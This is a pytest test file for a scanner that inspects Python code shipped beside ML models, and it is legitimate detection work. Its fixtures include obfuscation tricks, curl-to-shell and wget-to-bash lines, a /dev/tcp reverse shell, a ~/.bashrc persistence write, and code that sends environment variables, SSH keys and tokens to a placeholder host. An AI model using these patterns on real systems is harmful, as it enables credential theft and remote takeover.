"""Python code beside a model: each way to run something at import or load, and honest code."""

from __future__ import annotations

import base64
import codecs
import zlib

import pytest

from modelwarden.artifacts import Examined, examine
from modelwarden.core import GapKind, Severity
from modelwarden.formats import Limits, Source

PAYLOAD = "import os; os.system('true')"
ENCODED = base64.b64encode(PAYLOAD.encode()).decode()
PACKED = base64.b64encode(zlib.compress(PAYLOAD.encode())).decode()


def examined(code: str | bytes, name: str = "modeling.py") -> Examined:
    data = code if isinstance(code, bytes) else code.encode()
    with Source(name, data) as source:
        return examine(source, Limits())


def rules(code: str | bytes, name: str = "modeling.py") -> set[str]:
    return {f.rule for f in examined(code, name).findings}


AT_IMPORT = {
    "a function of a library that is replaced and called": (
        "import os, json\njson.loads = lambda s: os.system('true')\njson.loads('1')"
    ),
    "settings of a log": (
        "import logging.config as c\n"
        "c.dictConfig({'formatters': {'a': {'()': 'os.system', 'command': 'true'}}})"
    ),
    "a static method": (
        "import os\nclass A:\n    __call__ = staticmethod(os.system)\nA()('true')"
    ),
    "a class below a process": (
        "import subprocess\nclass A(subprocess.Popen):\n    pass\nA(['true'])"
    ),
    "a constructor above": (
        "import subprocess\nclass A(subprocess.Popen):\n"
        "    def __init__(self):\n        super().__init__(['true'])\nA()"
    ),
    "a browser": "import webbrowser\nwebbrowser.GenericBrowser(['true']).open('x')",
    "a text that a library evaluates": (
        "import sympy\nsympy.sympify(\"__import__('os').system('true')\")"
    ),
    "a query": (
        "import pandas as pd\npd.DataFrame({'a': [1]}).query(\"@pd.io.os.system('true')\")"
    ),
    "a check of a field": (
        "import os, pydantic\nclass A(pydantic.BaseModel):\n    x: int = 1\n"
        "    @pydantic.field_validator('x')\n    def check(cls, x):\n"
        "        os.system('true')\n        return x\nA(x=1)"
    ),
    "plain": "import os\nos.system('true')",
    "alias": "import os as o\no.system('true')",
    "name": "from os import system as s\ns('true')",
    "star": "from os import *\nsystem('true')",
    "posix": "import posix\nposix.system('true')",
    "assigned": "import os\nf = os.system\nf('true')",
    "either": "import os\nf = print\nif f:\n    f = os.system\nf('true')",
    "walrus": "import os\n(f := os.system)('true')",
    "unpacked": "import os\na, f = 1, os.system\nf('true')",
    "in a list": "import os\n[os.system][0]('true')",
    "in a table": "import os\n{'a': os.system}['a']('true')",
    "in a table, by get": "import os\nt = {'a': os.system}\nt.get('a')('true')",
    "in a loop": "import os\nfor f in (print, os.system):\n    f('true')",
    "by map": "import os\nlist(map(os.system, ['true']))",
    "by a comprehension": "import os\n[f('true') for f in [os.system]]",
    "by a lambda": "import os\n(lambda c: os.system(c))('true')",
    "by partial": "import os, functools\nfunctools.partial(os.system, 'true')()",
    "by a thread": (
        "import os, threading\n"
        "threading.Thread(target=os.system, args=('true',)).start()"
    ),
    "by a function": "import os\ndef f():\n    os.system('true')\nf()",
    "by a function that is handed on": (
        "import os, threading\ndef f():\n    os.system('true')\nthreading.Thread(target=f).start()"
    ),
    "by a function behind another": (
        "import os\ndef f(g):\n    g('true')\ndef h(c):\n    os.system(c)\nf(h)"
    ),
    "in a class": "import os\nclass Model:\n    x = os.system('true')",
    "by an object": (
        "import os\nclass A:\n    def __init__(self):\n        os.system('true')\nA()"
    ),
    "by a method": (
        "import os\nclass A:\n    def go(self):\n        os.system('true')\nA().go()"
    ),
    "by a method above": (
        "import os\n"
        "class A:\n"
        "    def go(self):\n"
        "        os.system('true')\n"
        "class B(A): pass\n"
        "B().go()"
    ),
    "by super": (
        "import os\nclass A:\n    def __init__(self):\n        os.system('true')\n"
        "class B(A):\n    def __init__(self):\n        super().__init__()\nB()"
    ),
    "by an attribute": (
        "import os\nclass A:\n    def __init__(self):\n        self.f = os.system\n"
        "    def go(self):\n        self.f('true')\nA().go()"
    ),
    "by an operator": (
        "import os\n"
        "class A:\n"
        "    def __add__(self, o):\n"
        "        os.system(o)\n"
        "A() + 'true'"
    ),
    "by indexing a class": "import os\nclass A:\n    __class_getitem__ = os.system\nA['true']",
    "by a context": (
        "import os\nclass A:\n    def __enter__(self):\n        os.system('true')\n"
        "    def __exit__(self, *a): pass\nwith A(): pass"
    ),
    "by a property": (
        "import os\nclass A:\n    @property\n    def x(self):\n        os.system('true')\nA().x"
    ),
    "by a metaclass": (
        "import os\nclass M(type):\n    def __init__(cls, *a):\n        os.system('true')\n"
        "class A(metaclass=M): pass"
    ),
    "by a subclass": (
        "import os\n"
        "class A:\n"
        "    def __init_subclass__(cls):\n"
        "        os.system('true')\n"
        "class B(A): pass"
    ),
    "by a descriptor": (
        "import os\nclass D:\n    def __set_name__(self, o, n):\n        os.system('true')\n"
        "class A:\n    d = D()"
    ),
    "by a decorator": (
        "import os\n"
        "def d(f):\n"
        "    os.system('true')\n"
        "    return f\n"
        "@d\n"
        "def g(): pass"
    ),
    "as a decorator": "import os\n@os.system\ndef g(): pass",
    "by what a decorator returns": (
        "import os\n"
        "def d(f):\n"
        "    def w():\n"
        "        os.system('true')\n"
        "    return w\n"
        "@d\n"
        "def g(): pass\n"
        "g()"
    ),
    "as a default": "import os\ndef f(x=os.system('true')): pass",
    "as an annotation": "import os\ndef f(x: os.system('true')): pass",
    "at the end": "import os, atexit\natexit.register(os.system, 'true')",
    "in a try": (
        "try:\n"
        "    import nothing\n"
        "except ImportError:\n"
        "    import os\n"
        "    os.system('true')"
    ),
    "in a match": "import os\nmatch 1:\n    case _:\n        os.system('true')",
    "behind getattr": "import os\ngetattr(os, 'system')('true')",
    "behind a dictionary": "import os\nos.__dict__['system']('true')",
    "behind vars": "import os\nvars(os)['system']('true')",
    "behind sys.modules": "import sys, os\nsys.modules['os'].system('true')",
    "behind __import__": "__import__('os').system('true')",
    "behind importlib": "import importlib\nimportlib.import_module('os').system('true')",
    "behind globals": "import os\nglobals()['os'].system('true')",
    "behind builtins": "import builtins\nbuiltins.__import__('os').system('true')",
    "behind __builtins__": "__builtins__.__import__('os').system('true')",
    "behind attrgetter": "import os, operator\noperator.attrgetter('system')(os)('true')",
    "behind methodcaller": "import os, operator\noperator.methodcaller('system', 'true')(os)",
    "behind a library": "import numpy\nnumpy.os.system('true')",
    "as text": "exec(\"import os; os.system('true')\")",
    "as compiled text": "exec(compile(\"import os; os.system('true')\", 'x', 'exec'))",
    "as an expression": "eval(\"__import__('os').system('true')\")",
    "as a pickle": "import pickle\npickle.loads(b'cposix\\nsystem\\n(S\"true\"\\ntR.')",
    "by subprocess": "import subprocess\nsubprocess.Popen(['touch', 'marker'], shell=False)",
    "by asyncio": (
        "import asyncio\n"
        "async def f():\n"
        "    await asyncio.create_subprocess_shell('true')\n"
        "asyncio.run(f())"
    ),
    "by a module's attribute": (
        "import os\ndef __getattr__(name):\n    os.system('true')"
    ),
    "by an assigned hook": "import os, sys\nsys.excepthook = os.system",
    "by its own call": "import os\nos.system.__call__('true')",
    "by __getattribute__": "import os\nos.__getattribute__('system')('true')",
    "by that of object": "import os\nobject.__getattribute__(os, 'system')('true')",
    "by the C library": "import ctypes\nctypes.CDLL(None).system(b'true')",
    "as a key": "import os\nsorted(['true'], key=os.system)",
    "by type": "import os\ntype('X', (), {'__init__': lambda s: os.system('true')})()",
    "through a path": "import os.path as p\np.os.system('true')",
    "as a factory": "import os\nimport dataclasses as d\nx = d.field(default_factory=os.system)",
    "in an assertion": "import os\nassert os.system('true') == 0",
    "in full width": "import os\nos.ｓｙｓｔｅｍ('true')",
}  # fmt: skip


@pytest.mark.parametrize("way", AT_IMPORT)
def test_what_runs_at_import_is_found(way: str):
    findings = examined(AT_IMPORT[way]).findings

    assert [f for f in findings if f.severity.rank <= Severity.HIGH.rank], way


HIDDEN = {
    "joined": "import os\ngetattr(os, 'sys' + 'tem')('true')",
    "formatted": "import os\ngetattr(os, f\"{'sys'}tem\")('true')",
    "reversed": "import os\ngetattr(os, 'metsys'[::-1])('true')",
    "by percent": "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('true')",
    "by numbers": (
        "import os\n"
        "getattr(os, ''.join(chr(c) for c in [115,121,115,116,101,109]))('true')"
    ),
    "by a key": "import os\ngetattr(os, ''.join(chr(c ^ 1) for c in b'rxrudl'))('true')",
    "in a loop": (
        "import os\nn = ''\nfor c in [114, 120, 114, 117, 100, 108]:\n    n += chr(c ^ 1)\n"
        "getattr(os, n)('true')"
    ),
    "by map": "import os\ngetattr(os, ''.join(map(chr, [115,121,115,116,101,109])))('true')",
    "by bytes": "import os\ngetattr(os, bytes([115,121,115,116,101,109]).decode())('true')",
    "by rot13": "import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('true')",
    "by hex": "import os\ngetattr(os, bytes.fromhex('73797374656d').decode())('true')",
    "by replacing": "import os\ngetattr(os, 'sXysXtem'.replace('X', ''))('true')",
    "the module": "__import__('o' + 's').system('true')",
    "a builtin": "import builtins\ngetattr(builtins, 'ex' + 'ec')('pass')",
    "packed": f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{PACKED}')))",
    "packed twice": f"exec(__import__('base64').b64decode('{ENCODED}').decode())",
    "rotated": f"import codecs\nexec(codecs.decode({codecs.encode(PAYLOAD, 'rot13')!r}, 'rot13'))",
    "subclasses": "().__class__.__base__.__subclasses__()[100]",
    "globals": "(lambda: 0).__globals__['__builtins__']['eval']('1')",
    "marshalled": "import base64, marshal\nexec(marshal.loads(base64.b64decode('4wAAAAA=')))",
}  # fmt: skip


@pytest.mark.parametrize("way", HIDDEN)
def test_what_hides_is_found(way: str):
    found = rules(HIDDEN[way])

    assert found & {"python-hidden-code", "python-import-attack"}, found


def test_what_hides_in_a_function_that_nobody_calls_is_found():
    code = "import os\ndef forward(x):\n    return getattr(os, 'sys' + 'tem')(x)\n"

    assert "python-hidden-code" in rules(code)


ATTACKS = {
    "to run again": (
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('true')"
    ),
    "fetched": "import requests\nexec(requests.get('http://example.invalid/').text)",
    "fetched by a function": (
        "import urllib.request as u\n"
        "def get():\n"
        "    return u.urlopen('http://example.invalid/').read()\n"
        "exec(get())"
    ),
    "fetched through a socket": (
        "import socket\ns = socket.socket()\ns.connect(('example.invalid', 1))\nexec(s.recv(99))"
    ),
    "fetched and started": (
        "import subprocess, urllib.request\n"
        "p, _ = urllib.request.urlretrieve('http://example.invalid/x')\n"
        "subprocess.run([p])"
    ),
    "piped": "import os\nos.system('curl -s http://example.invalid/ | sh')",
    "in a list": (
        "import subprocess\n"
        "subprocess.run(['sh', '-c', 'wget -qO- http://example.invalid/|bash'])"
    ),
    "a shell": "import os\nos.system('bash -i >& /dev/tcp/192.0.2.1/1 0>&1')",
    "environment": (
        "import os, requests\n"
        "requests.post('http://example.invalid/', json=dict(os.environ))"
    ),
    "environment in the address": (
        "import os, urllib.request\n"
        "urllib.request.urlopen('http://example.invalid/?' + str(os.environ))"
    ),
    "a key": (
        "import os, requests\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        "requests.post('http://example.invalid/', data=k)"
    ),
    "a token": (
        "import os, requests\n"
        "requests.get('http://example.invalid/', params={'t': os.getenv('HF_TOKEN')})"
    ),
    "decoded": (
        "import base64\n"
        f"exec(base64.b64decode('{base64.b64encode(PAYLOAD.encode()).decode()}'))"
    ),
}  # fmt: skip


@pytest.mark.parametrize("way", ATTACKS)
def test_an_attack_at_import_is_critical(way: str):
    assert "python-import-attack" in rules(ATTACKS[way])


@pytest.mark.parametrize("way", ATTACKS)
def test_an_attack_in_a_hook_that_loading_calls_is_critical(way: str):
    body = "\n".join(f"    {line}" for line in ATTACKS[way].split("\n"))

    assert "python-import-attack" in rules(f"def _load_pyfunc(path):\n{body}\n")


@pytest.mark.parametrize("way", ATTACKS)
def test_an_attack_that_loading_does_not_run_is_medium(way: str):
    body = "\n".join(f"    {line}" for line in ATTACKS[way].split("\n"))
    found = rules(f"def update():\n{body}\n")

    assert "python-import-attack" not in found
    assert found & {"python-attack-later", "python-hidden-code"}


LOADING = {
    "pickle": "class A:\n    def __reduce__(self):\n        return os.system, ('true',)",
    "state": "class A:\n    def __setstate__(self, s):\n        os.system('true')",
    "model": "class M(nn.Module):\n    def __init__(self, config):\n        os.system('true')",
    "handler": "class H(BaseHandler):\n    def initialize(self, c):\n        os.system('true')",
    "endpoint": "class EndpointHandler:\n    def __init__(self, path):\n        os.system('true')",
    "context": "class W(PythonModel):\n    def load_context(self, c):\n        os.system('true')",
    "class method": (
        "class M(PreTrainedModel):\n    @classmethod\n    def from_pretrained(cls, *a):\n"
        "        os.system('true')"
    ),
    "function": "def model_fn(folder):\n    os.system('true')",
    "through another": "def go():\n    os.system('true')\ndef model_fn(folder):\n    go()",
}


@pytest.mark.parametrize("way", LOADING)
def test_what_runs_at_load_is_found(way: str):
    assert "python-load-program" in rules(f"import os\n{LOADING[way]}\n")


def test_every_function_of_a_hubconf_is_called_by_its_loader():
    code = "import os\ndef resnet():\n    os.system('true')\n"

    assert "python-load-program" in rules(code, "hubconf.py")
    assert "python-load-program" not in rules(code, "other.py")


HONEST = {
    "model": (
        "import math\nimport torch\nfrom torch import nn\nfrom .configuration import Config\n"
        "class Attention(nn.Module):\n    def __init__(self, config):\n        super().__init__()\n"
        "        self.q = nn.Linear(config.hidden, config.hidden)\n"
        "    def forward(self, x):\n        return torch.softmax(self.q(x) / math.sqrt(2), -1)\n"
        "    def eval(self):\n        return self.train(False)\n"
    ),
    "script": "import os\nif __name__ == '__main__':\n    os.system('true')\n",
    "version": "import subprocess\nV = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n",
    "lazy": (
        "import importlib\ndef __getattr__(name):\n"
        "    return importlib.import_module(f'.{name}', __name__)\n"
    ),
    "environment": (
        "import os\n"
        "os.environ['TOKENIZERS_PARALLELISM'] = 'false'\n"
        "HOME = os.getenv('HOME')\n"
    ),
    "files": (
        "import json, pathlib\n"
        "D = json.loads(pathlib.Path(__file__).with_name('a.json').read_text())\n"
    ),
    "type checks": "import types\nKINDS = (types.FunctionType, types.MethodType)\n",
    "registry": (
        "R = {}\n"
        "def register(f):\n"
        "    R[f.__name__] = f\n"
        "    return f\n"
        "@register\n"
        "def a(): pass\n"
    ),
}  # fmt: skip


@pytest.mark.parametrize("way", HONEST)
def test_honest_code_is_examined_and_quiet(way: str):
    seen = examined(HONEST[way])

    assert [f for f in seen.findings if f.severity.rank <= Severity.MEDIUM.rank] == []
    assert seen.gaps == []


UNKNOWN = {
    "import": "import importlib, os\nimportlib.import_module(os.path.basename(os.getcwd()))",
    "text": "import config\nexec(config.text)",
    "expression": "import config\neval(config.text)",
    "attribute": "import os, config\ngetattr(os, config.name)('x')",
    "code": "import marshal\nexec(marshal.loads(open('x', 'rb').read()))",
}


@pytest.mark.parametrize("way", UNKNOWN)
def test_what_cannot_be_told_is_a_finding_and_a_gap(way: str):
    seen = examined(UNKNOWN[way])

    assert "python-dynamic-code" in {f.rule for f in seen.findings}
    assert GapKind.UNEXAMINED_CODE in {g.kind for g in seen.gaps}


def test_an_encoding_that_hides_the_code_is_found_and_read():
    code = b"# coding: utf-7\n+AGkAbQBwAG8AcgB0ACAAbwBz-\nos.system('true')\n"

    assert {"python-hidden-code", "python-import-program"} <= rules(code)


def test_the_report_never_shows_a_secret():
    token = "hf_" + "aB3kQz8LmW2xY7vNpR4tJ6" + "sDfGh91cVq5Z"
    seen = examined(f"import os\nos.system('curl -H token:{token} http://example.invalid | sh')\n")

    assert {f.rule for f in seen.findings} >= {"text-secret", "python-import-attack"}
    assert token not in repr(seen)


@pytest.mark.parametrize(
    "code",
    [
        f"exec(''.join(map(chr, {list(PAYLOAD.encode())})))",
        f"exec(''.join(chr(n) for n in {list(PAYLOAD.encode())}))",
        f"exec(bytes({list(PAYLOAD.encode())}))",
        f"exec({PAYLOAD[::-1]!r}[::-1])",
        f"exec(''.join(chr(ord(c) ^ 7) for c in {''.join(chr(ord(c) ^ 7) for c in PAYLOAD)!r}))",
    ],
)
def test_code_spelled_in_numbers_or_backwards_is_hidden(code: str):
    assert "python-import-attack" in rules(code)


def test_a_document_of_yaml_in_the_code_itself_is_no_file_beside_it():
    code = "import yaml\nyaml.unsafe_load(\"!!python/object/apply:os.system ['true']\")"

    assert "python-import-effect" in rules(code)
    assert "python-import-effect" not in rules("import joblib\nm = joblib.load('m.joblib')")


@pytest.mark.parametrize(
    "code",
    [
        "import json\njson.dumps = lambda o: 'x'\njson.dumps(1)",
        "import logging.config as c\n"
        "c.dictConfig({'formatters': {'a': {'()': 'colorlog.ColoredFormatter'}}})",
        "import torch.nn as nn\nclass A(nn.Module):\n"
        "    def __init__(self):\n        super().__init__()\nA()",
        "import pydantic\nclass A(pydantic.BaseModel):\n    x: int = 1\n"
        "    @pydantic.field_validator('x')\n    def check(cls, x):\n        return x\nA(x=1)",
        "LINES = [chr(n) for n in range(65, 91)]\nexec(chr(10).join(['x = 1', 'y = 2']))",
        "import sympy\nE = sympy.sympify('x**2 + 1')",
        "NAMES = 'abc'[::-1]",
    ],
)
def test_ordinary_code_of_these_kinds_is_no_finding(code: str):
    assert not {f.rule for f in examined(code).findings if f.severity.rank < Severity.LOW.rank}
